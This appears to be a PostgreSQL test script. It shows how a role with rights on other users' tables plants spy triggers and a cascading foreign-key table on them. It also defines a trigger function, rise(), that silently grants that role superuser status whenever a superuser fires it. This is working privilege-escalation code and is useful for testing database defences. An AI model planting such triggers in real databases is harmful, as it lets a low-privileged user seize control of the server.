-- What a role plants that has every right on the tables of others, but owns
-- none: triggers, and foreign keys with triggers of its own behind them.

SET search_path = grantee, pg_catalog;
SELECT format($sql$
	CREATE TRIGGER spy_granted BEFORE INSERT OR UPDATE OR DELETE ON %1$s FOR EACH ROW EXECUTE FUNCTION spy_trigger();
	CREATE TRIGGER spy_granted_after AFTER INSERT OR UPDATE OR DELETE OR TRUNCATE ON %1$s EXECUTE FUNCTION spy_trigger();
$sql$, c.oid::regclass)
FROM pg_class c WHERE c.relkind = 'r' AND (c.relnamespace = 'shop'::regnamespace AND c.relname ^@ 'shop_'
	OR c.relnamespace = 'public'::regnamespace AND c.relname ^@ 'nvent_') ORDER BY 1 \gexec
CREATE TABLE shop_kv_key (key text COLLATE "C" REFERENCES shop.shop_kv (key) ON DELETE CASCADE ON UPDATE CASCADE);
CREATE TRIGGER spy BEFORE DELETE ON shop_kv_key FOR EACH ROW EXECUTE FUNCTION spy_trigger();
INSERT INTO shop_kv_key SELECT key FROM shop.shop_kv;
GRANT SELECT ON shop_kv_key TO PUBLIC;

-- For triggers on tables of others: says whose rights it has, and becomes a
-- superuser with those of one.
CREATE FUNCTION rise() RETURNS trigger LANGUAGE plpgsql AS $$
BEGIN
	IF current_user <> 'grantee' THEN PERFORM grantee.spy('trap: ' || lower(TG_OP) || ' of ' || TG_TABLE_NAME); END IF;
	IF current_setting('is_superuser') = 'on' THEN ALTER ROLE grantee SUPERUSER; END IF;
	RETURN coalesce(NEW, OLD);
END $$;
